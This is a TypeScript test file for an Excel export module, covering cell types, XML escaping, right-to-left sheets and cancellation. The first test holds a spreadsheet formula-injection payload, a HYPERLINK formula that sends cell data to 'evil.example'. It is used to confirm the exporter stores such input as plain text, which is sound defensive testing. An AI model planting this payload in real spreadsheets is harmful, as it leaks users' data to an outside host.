import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import type { CsvColumn } from '@/src/list/export/columns';
import { cellXml, toXlsx, XLSX_TYPE, xmlText } from '@/src/list/export/xlsx';

interface Row {
  id: string;
  value: unknown;
}

const columns: CsvColumn<Row>[] = [
  { label: 'Id', value: (row) => row.id },
  { label: 'Value', value: (row) => row.value },
];

/** The workbook's parts, as text. */
async function parts(blob: Blob): Promise<Record<string, string>> {
  const files = unzipSync(new Uint8Array(await blob.arrayBuffer()));
  return Object.fromEntries(Object.entries(files).map(([path, bytes]) => [path, strFromU8(bytes)]));
}

/** The cells of the sheet's second column, row by row: their type attribute (none for a number) and content. */
function valueCells(sheet: string): { type: string | undefined; xml: string }[] {
  return [...sheet.matchAll(/<c r="B(\d+)"( t="(\w+)")?>(.*?)<\/c>/g)].map((match) => ({
    type: match[3],
    xml: match[4],
  }));
}

describe('the Excel export', () => {
  it('types each cell by its value: text stays text (phones, codes, formulas), numbers are numbers', async () => {
    const values = [
      '+966547317224',
      '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
      '@SUM(1)',
      '-1+2',
      '00123',
      '4.11.3',
      'قهوة عربية',
      'constructor',
      '__proto__',
      -5,
      12.5,
      true,
    ];
    const blob = await toXlsx(
      values.map((value, index) => ({ id: `r${index}`, value })),
      columns,
      { name: 'settings' },
    );
    expect(blob.type).toBe(XLSX_TYPE);
    const files = await parts(blob);
    expect(Object.keys(files).sort()).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'xl/_rels/workbook.xml.rels',
      'xl/workbook.xml',
      'xl/worksheets/sheet1.xml',
    ]);
    const sheet = files['xl/worksheets/sheet1.xml'];
    // Never a formula, never a lookup of shared strings.
    expect(sheet).not.toMatch(/<f[ >]/);
    expect(sheet).not.toContain('t="s"');
    const cells = valueCells(sheet);
    // The header, then one cell per value.
    expect(cells).toHaveLength(values.length + 1);
    expect(cells[0]).toEqual({ type: 'inlineStr', xml: '<is><t>Value</t></is>' });
    const text = (value: string) => ({ type: 'inlineStr', xml: `<is><t>${value}</t></is>` });
    expect(cells.slice(1)).toEqual([
      text('+966547317224'),
      text('=HYPERLINK("http://evil.example/?leak="&amp;A1,"open")'),
      text('@SUM(1)'),
      text('-1+2'),
      text('00123'),
      text('4.11.3'),
      text('قهوة عربية'),
      text('constructor'),
      text('__proto__'),
      { type: undefined, xml: '<v>-5</v>' },
      { type: undefined, xml: '<v>12.5</v>' },
      { type: 'b', xml: '<v>1</v>' },
    ]);
    expect(files['xl/workbook.xml']).toContain('<sheet name="settings" sheetId="1" r:id="rId1"/>');
  });

  it('writes an empty value as no cell, an object as its JSON, and reads right to left when asked', async () => {
    const files = await parts(
      await toXlsx(
        [
          { id: 'a', value: null },
          { id: 'b', value: undefined },
          { id: 'c', value: '' },
          { id: 'd', value: { en: 'Tea', ar: 'شاي' } },
        ],
        columns,
        { name: 'menus', rightToLeft: true },
      ),
    );
    const sheet = files['xl/worksheets/sheet1.xml'];
    expect(valueCells(sheet).map((cell) => cell.xml)).toEqual([
      '<is><t>Value</t></is>',
      '<is><t>{"en":"Tea","ar":"شاي"}</t></is>',
    ]);
    expect(sheet).toContain('<row r="2"><c r="A2" t="inlineStr">');
    expect(sheet).toContain('rightToLeft="1"');
  });

  it('escapes markup, and writes what XML cannot carry (control characters, a carriage return) as Excel does', () => {
    expect(xmlText('<b>&</b>')).toBe('&lt;b&gt;&amp;&lt;/b&gt;');
    expect(xmlText('a\u0000b\u001Fc\rd\ne\tf')).toBe('a_x0000_b_x001F_c_x000D_d\ne\tf');
    // A text that reads like an escape keeps its underscore, so it comes back as typed.
    expect(xmlText('_x0041_')).toBe('_x005F_x0041_');
    expect(cellXml(Number.NaN, 'B2')).toBe('<c r="B2" t="inlineStr"><is><t>NaN</t></is></c>');
    // Spaces a spreadsheet would drop are kept: at either end, several in a row, a tab or a line break.
    for (const text of [' a', 'a ', 'a  b', 'a\tb', 'a\nb'])
      expect(cellXml(text, 'B2')).toContain('<t xml:space="preserve">');
    expect(cellXml('a b', 'B2')).toContain('<t>a b</t>');
    expect(cellXml('x'.repeat(40_000), 'B2')).toHaveLength(
      '<c r="B2" t="inlineStr"><is><t></t></is></c>'.length + 32_767,
    );
  });

  it('stops when cancelled', async () => {
    const controller = new AbortController();
    const counted: CsvColumn<Row>[] = [
      {
        label: 'Id',
        value: (row) => {
          if (row.id === 'r10') controller.abort();
          return row.id;
        },
      },
    ];
    const many = Array.from({ length: 5000 }, (_, index) => ({ id: `r${index}`, value: index }));
    await expect(toXlsx(many, counted, { name: 'rows', signal: controller.signal })).rejects.toMatchObject({
      name: 'AbortError',
    });
  });
});
